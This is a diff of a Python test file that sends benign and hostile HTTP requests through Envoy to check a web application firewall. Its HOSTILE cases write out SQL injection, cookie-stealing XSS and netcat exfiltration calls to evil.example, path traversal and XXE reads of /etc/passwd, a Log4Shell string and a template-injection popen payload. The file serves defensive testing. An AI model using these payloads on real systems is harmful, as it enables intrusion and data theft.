@@ -3,6 +3,7 @@
 All of them go through Envoy as a client of their own (X-Forwarded-For, with the tour as the one trusted
 hop), so that none inherits another's record.
 """
+
 from __future__ import annotations
 
 import http.client
@@ -39,19 +40,28 @@ class Reply:
     seconds: float
 
 
-def json_case(name: str, passes: bool, target: str, value: object, method: str = "POST", status: int = 200
-              ) -> Case:
-    return Case(name, passes, method, target, {"content-type": "application/json"}, json.dumps(value).encode(),
-                status)
+def json_case(
+    name: str, passes: bool, target: str, value: object, method: str = "POST", status: int = 200
+) -> Case:
+    return Case(
+        name, passes, method, target, {"content-type": "application/json"}, json.dumps(value).encode(), status
+    )
 
 
 def form_case(name: str, passes: bool, target: str, fields: dict[str, str], status: int = 200) -> Case:
-    return Case(name, passes, "POST", target, {"content-type": "application/x-www-form-urlencoded"},
-                urlencode(fields).encode(), status)
+    return Case(
+        name,
+        passes,
+        "POST",
+        target,
+        {"content-type": "application/x-www-form-urlencoded"},
+        urlencode(fields).encode(),
+        status,
+    )
 
 
-def query_case(name: str, passes: bool, path: str, status: int = 200, **fields: str) -> Case:
-    return Case(name, passes, "GET", path + "?" + urlencode(fields, quote_via=quote), status=status)
+def query_case(what: str, passes: bool, path: str, /, **fields: str) -> Case:
+    return Case(what, passes, "GET", path + "?" + urlencode(fields, quote_via=quote))
 
 
 SNIPPET = """Nice desk! I sorted my drawers like this:
@@ -66,44 +76,97 @@ BENIGN: tuple[Case, ...] = (
     query_case("a search", True, "/search", q="oak chair"),
     query_case("a search with an apostrophe", True, "/search", q="O'Brien's rocking chair"),
     query_case("a search in Greek", True, "/search", q="ξύλινη καρέκλα"),
-    query_case("prose that sounds like SQL", True, "/search",
-               q="select a lamp from the catalogue and order by price"),
+    query_case(
+        "prose that sounds like SQL", True, "/search", q="select a lamp from the catalogue and order by price"
+    ),
     Case("one item", True, target="/items/3"),
     Case("a page that doesn't exist", True, target="/items/999", status=404),
     json_case("a login", True, "/login", {"user": "ada", "password": "lovelace-1815"}),
     form_case("a login by form", True, "/login", {"user": "grace", "password": "hopper-1906"}),
-    json_case("a new item", True, "/items", {"name": "birch bench", "price": 120.5, "tags": ["garden", "wood"],
-                                             "size": {"w": 120, "h": 45}}, status=201),
-    json_case("a comment", True, "/items/2/comments",
-              {"text": "I'd drop the table in the hall; the union of oak & brass is lovely -- really."},
-              status=201),
+    json_case(
+        "a new item",
+        True,
+        "/items",
+        {"name": "birch bench", "price": 120.5, "tags": ["garden", "wood"], "size": {"w": 120, "h": 45}},
+        status=201,
+    ),
+    json_case(
+        "a comment",
+        True,
+        "/items/2/comments",
+        {"text": "I'd drop the table in the hall; the union of oak & brass is lovely -- really."},
+        status=201,
+    ),
     json_case("code in a comment", True, "/items/1/comments", {"text": SNIPPET}, status=201),
-    json_case("a long comment", True, "/items/4/comments",
-              {"text": "We have had this blanket for three winters now and it still looks new. " * 50},
-              status=201),
+    json_case(
+        "a long comment",
+        True,
+        "/items/4/comments",
+        {"text": "We have had this blanket for three winters now and it still looks new. " * 50},
+        status=201,
+    ),
 )
 
 PADDING = "a perfectly ordinary sentence about chairs. "
 
 HOSTILE: tuple[Case, ...] = (
-    query_case("SQL injection in a query", False, "/items", q="' UNION SELECT username, password FROM users-- "),
-    json_case("SQL injection in a login (JSON)", False, "/login", {"user": "admin' OR '1'='1' -- ", "password": "x"}),
-    form_case("SQL injection in a form", False, "/login",
-              {"user": "x'; DROP TABLE users; SELECT pg_sleep(10)--", "password": "x"}),
-    query_case("script in a query", False, "/search", q="<script>fetch('//evil.example/'+document.cookie)</script>"),
-    json_case("script in a comment (JSON)", False, "/items/2/comments",
-              {"text": "nice <img src=x onerror=alert(document.domain)>"}),
+    query_case(
+        "SQL injection in a query", False, "/items", q="' UNION SELECT username, password FROM users-- "
+    ),
+    json_case(
+        "SQL injection in a login (JSON)", False, "/login", {"user": "admin' OR '1'='1' -- ", "password": "x"}
+    ),
+    form_case(
+        "SQL injection in a form",
+        False,
+        "/login",
+        {"user": "x'; DROP TABLE users; SELECT pg_sleep(10)--", "password": "x"},
+    ),
+    query_case(
+        "script in a query", False, "/search", q="<script>fetch('//evil.example/'+document.cookie)</script>"
+    ),
+    json_case(
+        "script in a comment (JSON)",
+        False,
+        "/items/2/comments",
+        {"text": "nice <img src=x onerror=alert(document.domain)>"},
+    ),
     query_case("path traversal in a query", False, "/files", name="../../../../../../etc/passwd"),
-    Case("path traversal, encoded twice", False, target="/files?name=%252e%252e%252f%252e%252e%252f%252e%252e%252f"
-                                                         "etc%252fpasswd"),
-    form_case("a shell command in a form", False, "/items", {"name": "chair; cat /etc/passwd | nc evil.example 4444"}),
+    Case(
+        "path traversal, encoded twice",
+        False,
+        target="/files?name=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+    ),
+    form_case(
+        "a shell command in a form",
+        False,
+        "/items",
+        {"name": "chair; cat /etc/passwd | nc evil.example 4444"},
+    ),
     Case("Log4Shell in a header", False, headers={"user-agent": "${jndi:ldap://evil.example:1389/a}"}),
-    json_case("a template expression in JSON", False, "/items",
-              {"name": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"}),
-    Case("an external entity in XML", False, "POST", "/items", {"content-type": "application/xml"},
-         b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
-    json_case("an attack behind 20 KB of padding", False, "/items/3/comments",
-              {"text": PADDING * 460, "more": "1' UNION ALL SELECT NULL, table_name FROM information_schema.tables-- "}),
+    json_case(
+        "a template expression in JSON",
+        False,
+        "/items",
+        {"name": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"},
+    ),
+    Case(
+        "an external entity in XML",
+        False,
+        "POST",
+        "/items",
+        {"content-type": "application/xml"},
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+    ),
+    json_case(
+        "an attack behind 20 KB of padding",
+        False,
+        "/items/3/comments",
+        {
+            "text": PADDING * 460,
+            "more": "1' UNION ALL SELECT NULL, table_name FROM information_schema.tables-- ",
+        },
+    ),
 )
 
 
@@ -113,13 +176,22 @@ def send(port: int, case: Case, client: str) -> Reply:
     begun = time.perf_counter()
     connection = http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT_S)
     try:
-        headers = {"user-agent": BROWSER, "accept": "application/json, text/html", "accept-language": "en-GB,en",
-                   **case.headers, "x-forwarded-for": client}
+        headers = {
+            "user-agent": BROWSER,
+            "accept": "application/json, text/html",
+            "accept-language": "en-GB,en",
+            **case.headers,
+            "x-forwarded-for": client,
+        }
         connection.request(case.method, case.target, body=case.body, headers=headers)
         response = connection.getresponse()
         body = response.read(RESPONSE_BYTES_MAX)
-        return Reply(response.status, {k.lower(): v for k, v in response.getheaders()}, body,
-                     time.perf_counter() - begun)
+        return Reply(
+            response.status,
+            {k.lower(): v for k, v in response.getheaders()},
+            body,
+            time.perf_counter() - begun,
+        )
     finally:
         connection.close()
 
@@ -129,8 +201,13 @@ def wrong_logins(user: str = "ada") -> Iterator[Case]:
     number = 0
     while True:
         number += 1
-        yield json_case(f"password {number}", True, "/login", {"user": user, "password": f"summer{1900 + number}"},
-                        status=401)
+        yield json_case(
+            f"password {number}",
+            True,
+            "/login",
+            {"user": user, "password": f"summer{1900 + number}"},
+            status=401,
+        )
 
 
 def orders() -> Iterator[Case]:
